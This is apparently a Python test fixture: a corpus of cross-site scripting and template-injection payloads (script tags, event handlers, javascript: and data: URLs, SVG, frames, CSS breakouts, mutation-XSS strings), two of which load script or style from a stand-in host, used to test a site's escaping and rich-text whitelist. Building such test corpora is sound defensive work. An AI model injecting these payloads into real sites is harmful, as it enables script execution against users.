"""Hostile text for every field an editor can fill: each payload would run script, load a frame,
restyle the page or evaluate a template if the site put it into HTML, CSS or a template unescaped.

Used by test_xss_corpus.py (stored straight into the database and through the admin forms) and
test_richtext.py (the stored rich-text whitelist, one payload at a time). Families that can
swallow what follows them in one field (unclosed comments, raw-text elements) come last.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    family: str
    text: str


PAYLOADS: tuple[Payload, ...] = (
    # Script elements, plain and disguised.
    Payload("script", '<script>alert("tp-1")</script>'),
    Payload("script", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    Payload("script", "<scr<script>ipt>alert(2)</scr</script>ipt>"),
    Payload("script", '</p></div><script>document.title="owned"</script><div><p>'),
    # Event handlers on ordinary elements.
    Payload("event-handler", "<img src=x onerror=alert(4)>"),
    Payload("event-handler", "<img src=x oNeRrOr=alert(5)>"),
    Payload("event-handler", "<details open ontoggle=alert(6)>x</details>"),
    Payload("event-handler", '<p onmouseover="alert(7)">hover me</p>'),
    Payload("event-handler", "<input autofocus onfocus=alert(8)>"),
    Payload("event-handler", "<body onload=alert(9)>"),
    # Script and document URLs where a link, form or button goes.
    Payload("url-scheme", '<a href="javascript:alert(10)">click</a>'),
    Payload("url-scheme", '<a href="  JaVaScRiPt:alert(11)">click</a>'),
    Payload("url-scheme", '<a href="java&#x09;script:alert(12)">tab</a>'),
    Payload("url-scheme", '<a href="&#106;avascript&colon;alert(13)">entities</a>'),
    Payload(
        "url-scheme",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">data</a>',
    ),
    Payload("url-scheme", '<a href="vbscript:msgbox(15)">vb</a>'),
    Payload("url-scheme", '<form action="javascript:alert(16)"><button>go</button></form>'),
    Payload("url-scheme", "<button formaction=javascript:alert(17)>x</button>"),
    # SVG, whose elements have handlers and links of their own.
    Payload("svg", "<svg onload=alert(18)>"),
    Payload("svg", "<svg/onload=alert(19)>"),
    Payload("svg", '<svg><a xlink:href="javascript:alert(20)"><text y="9">x</text></a></svg>'),
    # Frames, plugins and document-level elements.
    Payload("frame", '<iframe srcdoc="<script>alert(21)</script>"></iframe>'),
    Payload("frame", '<iframe src="javascript:alert(22)"></iframe>'),
    Payload("frame", '<object data="data:text/html,<script>alert(23)</script>"></object>'),
    Payload("frame", '<embed src="javascript:alert(24)">'),
    Payload("frame", '<base href="javascript:alert(25)//">'),
    Payload("frame", '<meta http-equiv="refresh" content="0;url=javascript:alert(26)">'),
    # Style: old IE expressions, script URLs, and breaking out of a CSS comment or string.
    Payload("style", '<div style="width:expression(alert(27))">ie</div>'),
    Payload("style", '<style>@import "javascript:alert(28)";</style>'),
    Payload("style", "*/ @import url(//evil.example/x.css); /*"),
    Payload("style", '"; } body { display: none } @page { content: "'),
    # Breaking out of an attribute value or of the <title> element.
    Payload("attribute-break", '"><script>alert(30)</script>'),
    Payload("attribute-break", "' onmouseover='alert(31)' x='"),
    Payload("attribute-break", '" autofocus onfocus="alert(32)'),
    Payload("attribute-break", "</title><script>alert(33)</script>"),
    # Template syntax: would print 9876542 if evaluated.
    Payload("template", "{{ 9876500|add:42 }}"),
    Payload("template", "{% widthratio 4938271 1 2 %}"),
    Payload("template", "${9876500+42} #{9876500+42}"),
    # Already encoded: must stay text, not be decoded into markup.
    Payload("encoded", "&lt;script&gt;alert(35)&lt;/script&gt;"),
    Payload("encoded", "%3Cscript%3Ealert(36)%3C%2Fscript%3E"),
    Payload("encoded", "\\u003cscript\\u003ealert(37)\\u003c/script\\u003e"),
    # Unicode look-alikes, invisible characters and direction overrides.
    Payload("unicode", "＜script＞alert(38)＜/script＞"),
    Payload("unicode", '<a href="java\u200bscript:alert(39)">zero width</a>'),
    Payload("unicode", "report\u202egpj.exe"),
    # Parser differentials (mutation XSS); these may swallow what follows them.
    Payload("mutation", '<noscript><p title="</noscript><img src=x onerror=alert(42)>">'),
    Payload("mutation", '<!--<img src="--><img src=x onerror=alert(43)//">'),
    Payload("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(44)>"),
    Payload("mutation", "</textarea><img src=x onerror=alert(45)>"),
)

# Link targets for the admin's rich-text editor, which stores URLs apart from the text.
HOSTILE_URLS: tuple[str, ...] = (
    "javascript:alert(50)",
    " JaVaScRiPt:alert(51)",
    "java\tscript:alert(52)",
    "data:text/html,<script>alert(53)</script>",
    "vbscript:msgbox(54)",
    "&#106;avascript:alert(55)",
)


def packed(limit: int, payloads: Iterable[Payload] = PAYLOADS) -> list[list[Payload]]:
    """The corpus in as few groups as fit a field of `limit` characters once joined by spaces.
    A payload longer than the field cannot be stored there at all, so it is left out."""
    groups: list[list[Payload]] = []
    length = 0
    for payload in payloads:
        size = len(payload.text)
        if size > limit:
            continue
        if groups and length + 1 + size <= limit:
            groups[-1].append(payload)
            length += 1 + size
        else:
            groups.append([payload])
            length = size
    return groups


def chunks(limit: int | None, payloads: Iterable[Payload] = PAYLOADS) -> list[str]:
    """The corpus packed into as few values as fit a field of `limit` characters."""
    if limit is None:
        return [" ".join(p.text for p in payloads)]
    return [" ".join(p.text for p in group) for group in packed(limit, payloads)]
